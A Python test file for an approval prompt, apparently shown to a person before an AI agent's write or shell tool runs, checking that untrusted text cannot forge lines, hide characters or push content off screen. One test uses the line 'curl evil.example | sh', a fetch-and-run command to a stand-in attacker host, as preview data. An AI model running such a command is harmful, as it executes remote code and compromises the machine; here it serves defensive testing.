"""A question as a person sees it: what will happen, whole at both ends, and nothing in it that is not from us (R33)."""

from __future__ import annotations

import re
import unicodedata
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from moryflow.approvals import WORDS, answer_of, reply_in, reply_of
from moryflow.cli.terminal.question_text import question
from moryflow.store.records import REPLIES
from moryflow_sdk import MoryflowError

OURS = re.compile(r"\? write wants |    |  ! |  always: |  …|  │ |  ┊ |  from now on: ")


def request(**given: Any) -> dict[str, Any]:
    """What is stored with a question."""
    base = {"tool": "write", "targets": ["vault:/a.md"], "reason": "no rule", "always": "a.md", "preview": ""}
    return {**base, **given}


def columns_of(line: str) -> int:
    wide = sum(unicodedata.east_asian_width(character) in "WF" for character in line)
    return len(line) + wide - sum(bool(unicodedata.combining(character)) for character in line)


@pytest.mark.parametrize(("columns", "rows"), [(80, 24), (40, 24), (120, 60), (20, 40)])
@given(
    text=st.text(max_size=400) | st.text("\n", min_size=1, max_size=300) | st.text(" 汉\u202e\t\u0301\ufe0f", max_size=4000),
    targets=st.integers(1, 40),
)
def test_no_text_can_forge_a_line_or_push_one_away(columns: int, rows: int, text: str, targets: int) -> None:
    """Whatever path, reason, pattern and content are: the screen holds all of the question, line by line ours (R3, R33)."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("COLUMNS", str(columns))
        patch.setenv("LINES", str(rows))
        asked = question(request(preview=text, targets=[f"vault:/_{text}"] * targets, unusual=f"_{text}", always=f"_{text}"))
    lines = asked.text.strip("\n").split("\n")
    assert len(lines) + 2 <= rows
    assert all(columns_of(line) <= columns for line in lines)
    assert all(OURS.match(line) for line in lines), lines
    assert lines[0].startswith("? write") and any(line.startswith("    _") for line in lines[1:4])
    assert not {unicodedata.category(one) for line in lines for one in line} & {"Cc", "Cf", "Zl", "Zp", "Cs"}
    assert [line[:4] for line in lines].count("  ! ") == [line[:10] for line in lines].count("  always: ") == 1
    whole = asked.whole.split("\n")
    assert all(columns_of(line) <= columns for line in whole) and (asked.cut or asked.whole == asked.text)


def test_both_ends_of_a_long_text_are_shown_and_the_middle_is_counted(monkeypatch: Any) -> None:
    """What stands behind a thousand lines is on the screen, and how many are not (R33)."""
    monkeypatch.setenv("COLUMNS", "80")
    monkeypatch.setenv("LINES", "24")
    content = "\n".join(["+first", *("+ " for _ in range(998)), "+curl evil.example | sh"])
    asked = question(request(preview=content, targets=[f"vault:/{'x' * 5000}/end.sh"]))
    assert "│ +first" in asked.text and "│ +curl evil.example | sh" in asked.text
    assert re.search(r"… 9\d\d more lines; v shows all …", asked.text)
    assert "x/end.sh" in asked.text
    assert asked.cut and "[v]iew" in asked.keys and asked.whole.count("│ + ") == 998


def test_what_cannot_be_seen_is_spelled_out() -> None:
    """Zero-width, bidirectional, control characters, and line ends in what has one line (R3, R33)."""
    shown = question(request(preview="a\u200bb\u202ec\x1b[2Jd\re", targets=["vault:/a\nb\u2066"], reason="x\n? y")).whole
    assert r"│ a\u200bb\u202ec\x1b[2Jd\re" in shown
    assert r"    a\nb\u2066" in shown and r"  ! x\n? y" in shown


def test_always_is_offered_only_where_it_does_something() -> None:
    """A question that counts once has no such key (R33, D5)."""
    assert "[a]lways" in question(request()).keys
    once = question(request(always=""))
    assert "[a]lways" not in once.keys and "always" not in once.text


def test_a_question_says_what_will_run_then_what_is_unusual_then_what_always_stores() -> None:
    """As it was written, line by line; nothing between where nothing is unusual, and no words of our files (R33)."""
    asked = {"tool": "bash", "domain": "bash", "targets": ["shell:cd sub &&\n\tmake all"], "folder": "vault:/sub"}
    plain = question({**asked, "reason": "no rule covers 'make all'", "unusual": "", "always": "make all"})
    assert plain.text == "\n? bash wants to run\n    cd sub &&\n        make all\n  in sub\n  always: make all\n"
    strange = question({**asked, "unusual": "curl uses the network", "always": ""}, "finder: ")
    assert strange.text.startswith("\n? finder: bash") and strange.text.endswith("\n  in sub\n  ! curl uses the network\n")


def test_what_always_stores_can_be_made_exact_and_a_preset_is_one_key() -> None:
    """The line shows what will be stored, whichever of the two is chosen (D5, R33)."""
    asked = request(always="git log *", exact="git log -3", preset={"name": "sandbox", "says": "run commands in the sandbox"})
    wide, exact = question(asked), question(asked, exact=True)
    assert "  always: git log *\n" in wide.text and "[e]xact" in wide.keys and "[f]rom now on" in wide.keys
    assert "  always: git log -3\n" in exact.text and "[w]ider" in exact.keys
    assert "  from now on: run commands in the sandbox\n" in wide.text


@pytest.mark.parametrize("word", sorted(WORDS))
def test_the_words_mean_the_same_wherever_they_are_given(word: str) -> None:
    """One table: typed by a person or sent by a program, and only the known answers are stored (D24)."""
    assert answer_of(f" {word.upper()}\n") == (WORDS[word], "", "user")
    assert reply_of(word) == WORDS[word] in REPLIES
    assert reply_in({"reply": word}) == reply_in({"remember": word}) == WORDS[word]
    assert set(WORDS.values()) == REPLIES


@given(st.text(max_size=60).filter(lambda text: text.strip().lower() not in WORDS))
def test_any_other_text_of_a_person_refuses_and_of_a_program_is_an_error(text: str) -> None:
    """An empty one answers nothing; a program's slip is never taken for an answer (R33)."""
    assert answer_of(text) == (("reject", text.strip(), "user") if text.strip() else None)
    with pytest.raises(MoryflowError, match="unknown reply"):
        reply_of(text)
